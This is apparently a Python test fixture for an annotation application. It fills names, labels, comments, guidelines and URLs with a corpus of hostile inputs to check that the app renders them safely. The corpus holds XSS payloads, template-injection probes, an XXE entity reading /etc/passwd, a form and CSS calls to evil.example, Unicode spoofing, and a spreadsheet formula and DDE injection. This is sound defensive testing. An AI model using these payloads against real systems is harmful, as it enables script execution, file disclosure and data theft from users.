"""Texts that want to be more than texts, and a study in which everything that people write is one of them."""

from __future__ import annotations

from typing import Final

from annotations.models import Claim, Guideline, Label, Question
from annotations.services.annotating import annotate
from annotations.services.claims import list_claim, mention
from annotations.services.remarks import remark
from tests.factories import AuthorFactory, MembershipFactory, Study, index, plant_study
from threads.models import Comment, Project, Thread, User

# What a script that ran would have set.
MARK: Final = "__hostile_script_ran"
RUN: Final = f"window.{MARK}=1"
CORPUS: Final = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f'"><img src=x onerror="{RUN}">',
    f"'><svg/onload={RUN}>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    f"javascript:{RUN}//",
    f"see javascript:{RUN} and data:text/html,<script>{RUN}</script>",
    f"[link](javascript:{RUN}) ![img](data:image/svg+xml,<svg/onload={RUN}>)",
    f"<a href='java&#x09;script:{RUN}'>a</a><iframe srcdoc='<script>{RUN}</script>'></iframe>",
    "{{ 7|add:7 }}{% debug %}{# gone #}${7*7}#{7*7}",
    "<style>*{display:none}</style>\" style=\"position:fixed;background:url(//evil.example/x)",
    "<!-- <b>hidden</b> --> <![CDATA[ text ]]> <!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "</textarea></title></select></template></noscript><form action=//evil.example><button>Press</button></form>",
    "\u202egnp.exe\u202c \u2066left\u2069 \ufeff\u200b zero",
    "line\u2028separator\u2029paragraph\x85next",
    "=HYPERLINK(\"http://evil.example/\"&A1,\"Click\") @SUM(1+1)*cmd|' /C calc'!A0",
    "W" * 5_000,
    "&lt;b&gt; &amp;amp; &#60;script&#62; &quot;",
)  # fmt: skip
"""As many as there are ways. None holds what no text may: NUL, or half of a pair of surrogates."""


def plant_hostile_study() -> Study:
    """Every text of the corpus is a comment; titles, names, labels, notes, claims and the rest are made of it, too."""
    study = plant_study(list(CORPUS), [None] * len(CORPUS), title=CORPUS[0], article="\n\n".join(CORPUS))
    _name_people(study)
    _name_questions(study)
    for at, comment in enumerate(study.thread.comments.filter(position__gt=0)):
        text = CORPUS[at % len(CORPUS)]
        # The first ones are left to the manager, who looks at the pages and may be asked to label there.
        who = {"round": study.round, "by": study.manager if at > 4 else study.annotator}
        claim = annotate(comment, study.label("claim"), note=text, **who)
        annotate(comment, study.label("question"), **who)
        mention(list_claim(study.project, text[:1000], **who), comment, **who)
        remark(comment, text[:4000], asks=at % 2 == 0, **who)
        comment.suggestions.create(
            label=claim.label, extractor="cues", extractor_version="1", confidence=0.7,
            reasons=[{"cue": text[:200], "start": 0, "end": 1, "weight": 1.0}],
        )  # fmt: skip
    index(study.project)
    return study


def _name_people(study: Study) -> None:
    Project.objects.filter(pk=study.project.pk).update(
        name=CORPUS[2][:200], description=CORPUS[8], options={"shows_author_names": True}
    )
    User.objects.filter(pk=study.annotator.pk).update(username=CORPUS[2][:150], first_name=CORPUS[3][:150])
    User.objects.filter(pk=study.manager.pk).update(first_name=CORPUS[0][:150])
    MembershipFactory(project=study.project, alias=CORPUS[3][:40], role="viewer")
    for at, comment in enumerate(study.thread.comments.all()):
        text = CORPUS[at % len(CORPUS)][:255]
        comment.author = AuthorFactory(project=study.project, handle=text)
        comment.anchors = [{"start": 0, "end": 4, "href": f"javascript:{RUN}"}]
        comment.save()
    Thread.objects.filter(pk=study.thread.pk).update(url=f"javascript:{RUN}", site=CORPUS[2][:255])
    Comment.objects.filter(thread=study.thread, position=2).update(markup=CORPUS[0])


def _name_questions(study: Study) -> None:
    version = study.round.scheme_version
    for at, label in enumerate(Label.objects.filter(question__version=version)):
        text = CORPUS[at % len(CORPUS)]
        Label.objects.filter(pk=label.pk).update(name=text[:100], guideline=text[:500])
    for at, question in enumerate(Question.objects.filter(version=version)):
        text = CORPUS[(at + 2) % len(CORPUS)]
        Question.objects.filter(pk=question.pk).update(name=text[:100], help=text[:500])
    version.scheme.name = CORPUS[5][:100]
    version.scheme.save()
    Guideline.objects.filter(pk=study.round.guideline_id).update(text="\n\n".join(CORPUS))
    Claim.objects.update(wording=CORPUS[0])
